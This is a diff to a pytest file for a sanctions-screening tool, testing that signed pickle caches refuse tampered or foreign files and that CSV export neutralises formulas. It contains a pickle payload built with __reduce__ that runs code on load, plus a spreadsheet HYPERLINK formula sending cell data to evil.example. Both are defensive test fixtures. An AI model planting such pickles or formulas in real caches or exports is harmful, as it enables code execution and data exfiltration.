@@ -9,14 +9,21 @@ from __future__ import annotations
 import csv
 import io
 import json
+import logging
+import os
+import pickle
+import stat
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 
+from sanctions.cache import MAGIC, cache_key_path, read_cache, write_cache
 from sanctions.cli import main
 from sanctions.coordination.reports import render_csv
 from sanctions.csvsafe import csv_writer, safe_cell
+from sanctions.screening import parse_query
+from sanctions.watch.keys import RecordKeys, load_keys
 
 HOSTILE = {
     "=": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -128,3 +135,85 @@ def test_coverage_report_csv_is_formula_safe() -> None:
         ["'=1+1", "-3"],
         ["ok", "2"],
     ]
+
+
+# -- caches are not a way to run code -------------------------------------------------
+
+
+class _Payload:
+    """A pickle that, when loaded, creates a file: proof that loading ran code."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = marker
+
+    def __reduce__(self) -> tuple[object, tuple[str, str]]:
+        return (open, (str(self.marker), "w"))
+
+
+def _plant(path: Path, marker: Path) -> None:
+    path.write_bytes(pickle.dumps(_Payload(marker)))
+
+
+def test_planted_pickle_in_the_index_cache_is_not_run_and_the_index_rebuilt(
+    db: str, tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    cache = tmp_path / "index-cache"
+    monkeypatch.setenv("SANCTIONS_INDEX_CACHE", str(cache))
+    args = ["--db", db, "screen", "Vladimir Putin", "--json"]
+    first = CliRunner().invoke(main, args)
+    assert first.exit_code == 0, first.output
+    assert any("-index-" in p.name for p in cache.glob("*.pickle")), "no index cache written"
+    marker = tmp_path / "pwned"
+    for path in cache.glob("*.pickle"):
+        _plant(path, marker)
+    with caplog.at_level(logging.WARNING, logger="sanctions.cache"):
+        again = CliRunner().invoke(main, args)
+    assert again.exit_code == 0, again.output
+    assert not marker.exists()
+    assert json.loads(again.stdout)["results"][0]["id"] == "os-putin"
+    assert "no valid signature" in caplog.text
+    assert all(p.read_bytes().startswith(MAGIC) for p in cache.glob("*.pickle"))  # rebuilt
+
+
+def test_planted_pickle_in_the_watch_prefilter_cache_is_not_run(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SANCTIONS_INDEX_CACHE", str(tmp_path / "index-cache"))
+    query = parse_query({"id": "c1", "properties": {"name": ["Vladimir Putin"]}})
+    keys = RecordKeys([("c1", "h", query)])
+    keys.save()
+    path = RecordKeys.path_for(keys.digest)
+    assert load_keys(keys.digest) is not None
+    marker = tmp_path / "pwned"
+    _plant(path, marker)
+    assert load_keys(keys.digest) is None
+    assert not marker.exists()
+
+
+def test_cache_key_is_private_outside_the_cache_folder_and_checked(tmp_path: Path) -> None:
+    cache = tmp_path / "cache"
+    cache.mkdir()
+    target = cache / "x.pickle"
+    assert write_cache(target, {"a": 1})
+    key = cache_key_path()
+    assert key.parent != cache and stat.S_IMODE(key.stat().st_mode) == 0o600
+    assert read_cache(target) == {"a": 1}
+    data = bytearray(target.read_bytes())
+    data[-3] ^= 1  # one bit of the payload
+    target.write_bytes(bytes(data))
+    assert read_cache(target) is None
+
+
+def test_cache_signed_with_another_key_or_with_an_open_key_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "cache" / "x.pickle"
+    target.parent.mkdir()
+    monkeypatch.setenv("SANCTIONS_CACHE_KEY_FILE", str(tmp_path / "one.key"))
+    assert write_cache(target, [1, 2])
+    monkeypatch.setenv("SANCTIONS_CACHE_KEY_FILE", str(tmp_path / "other.key"))
+    assert read_cache(target) is None  # e.g. a cache file copied from another machine
+    os.chmod(tmp_path / "other.key", 0o644)
+    assert not write_cache(target, [1, 2]) and read_cache(target) is None
+    monkeypatch.setenv("SANCTIONS_CACHE_KEY_FILE", str(target.parent / "in-cache.key"))
+    assert not write_cache(target, [1, 2])  # a key the cache writer could replace
